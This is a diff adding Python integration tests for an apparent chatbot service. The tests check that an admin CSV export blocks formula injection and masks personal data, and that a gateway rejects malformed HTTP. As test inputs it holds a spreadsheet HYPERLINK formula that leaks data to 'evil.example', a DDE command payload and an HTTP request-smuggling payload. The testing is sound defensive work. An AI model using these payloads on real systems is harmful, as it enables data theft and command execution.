@@ -5,7 +5,9 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
+import csv
 import errno
+import io
 import socket
 import statistics
 import struct
@@ -13,10 +15,13 @@ import time
 from typing import Any, cast
 
 import aiohttp
+import orjson
 import psutil
 from redis.asyncio import Redis
 
+from shared import unanswered
 from shared.heartbeat import ProcessInfo, heartbeat_loop
+from shared.messages import ReplyContent
 from shared.names import Names
 from shared.stats import ERRORS
 from shared.store import Store
@@ -224,3 +229,84 @@ async def test_heartbeat_outlives_running_out_of_file_handles(redis: Redis) -> N
         with contextlib.suppress(asyncio.CancelledError):
             await beating
         await purge_namespace(names.namespace)
+
+
+ADMIN_TOKEN = "admin-token-0123456789abcdef"
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1, "clique")'
+PERSONAL = "meu cpf 123.456.789-09, email joana.silva@example.com, senha: hunter2"
+
+
+def _fallback(question: str) -> unanswered.Answered:
+    content = ReplyContent(text="Não sei.", engine="kb", confidence=0.1, fallback=True, kind="fallback")
+    return unanswered.Answered(question=question, generated=content, sent=content)
+
+
+async def test_unanswered_csv_is_masked_and_never_a_formula(stack: Stack, redis: Redis) -> None:
+    monitor = await stack.start("monitor", ADMIN_TOKEN=ADMIN_TOKEN)
+    names = Names(stack.namespace, TEST_SHARDS)
+    questions = [FORMULA, PERSONAL, "  @SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "Qual o horário?"]
+    await unanswered.record(redis, names, [_fallback(question) for question in questions])
+    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as browser:
+        login = {"operator": "Ana", "token": ADMIN_TOKEN}
+        async with browser.post(monitor.url + "/admin/login", data=login) as response:
+            assert response.status == 200
+        async with browser.get(monitor.url + "/admin/knowledge/unanswered.csv") as response:
+            assert response.status == 200 and response.content_type == "text/csv"
+            text = await response.text()
+    rows = list(csv.DictReader(io.StringIO(text)))
+    examples = {row["example"] for row in rows}
+    assert len(rows) == len(questions), rows
+    for row in rows:
+        for cell in row.values():
+            assert cell.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
+    assert "'" + FORMULA in examples
+    for secret in ("123.456.789-09", "12345678909", "joana.silva@", "hunter2"):
+        assert secret not in text, secret
+    assert "Qual o horário?" in examples  # the rest as written
+
+
+def _lines(service: Service) -> list[dict[str, Any]]:
+    return [orjson.loads(line) for line in service.logs().splitlines() if line.startswith("{")]
+
+
+async def test_start_line_request_lines_and_malformed_http(stack: Stack, http: aiohttp.ClientSession) -> None:
+    gateway = await stack.start(
+        "gateway", **WHATSAPP_ENV, REPLY_ENGINE="openai", OPENAI_API_KEY="", OTEL_SDK_DISABLED="false"
+    )
+    await wait_ready(stack)
+    [start] = [line for line in _lines(gateway) if "listening on port" in line["message"]]
+    for named in (str(gateway.port), "engine openai", "knowledge base", "kb-sample.yaml", "web, whatsapp", "tracing"):
+        assert named in start["message"], named
+    assert start["open_files_limit"] > 0
+    assert any(line["level"] == "WARNING" and "OPENAI_API_KEY" in line["message"] for line in _lines(gateway)), (
+        "REPLY_ENGINE=openai without a key starts with a warning"
+    )
+
+    # One line per request, in its trace.
+    traceparent = "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"
+    body = {"user_id": "logs", "text": "oi"}
+    async with http.post(f"{gateway.url}/v1/messages", json=body, headers={"traceparent": traceparent}) as response:
+        assert response.status == 202
+
+    async def request_line() -> dict[str, Any] | None:
+        return next((line for line in _lines(gateway) if line.get("route") == "/v1/messages"), None)
+
+    line = await eventually(request_line, what="the request's log line")
+    assert (line["status"], line["method"], line["trace_id"]) == (202, "POST", "0af7651916cd43dd8448eb211c80319c")
+
+    # Malformed HTTP: refused, and one warning without a traceback.
+    smuggle = (
+        b"POST /v1/messages HTTP/1.1\r\nHost: g\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
+    )
+    reader, writer = await _raw(gateway, smuggle)
+    async with asyncio.timeout(20):
+        answer = await reader.read()
+    writer.close()
+    assert answer.split(b"\r\n", 1)[0].endswith(b" 400 Bad Request"), answer[:80]
+
+    async def warned() -> list[dict[str, Any]]:
+        return [line for line in _lines(gateway) if "malformed HTTP" in line["message"]]
+
+    [warning] = await eventually(warned, what="the malformed request logged")
+    assert warning["level"] == "WARNING" and "exception" not in warning
+    assert not [line for line in _lines(gateway) if line["level"] == "ERROR"]
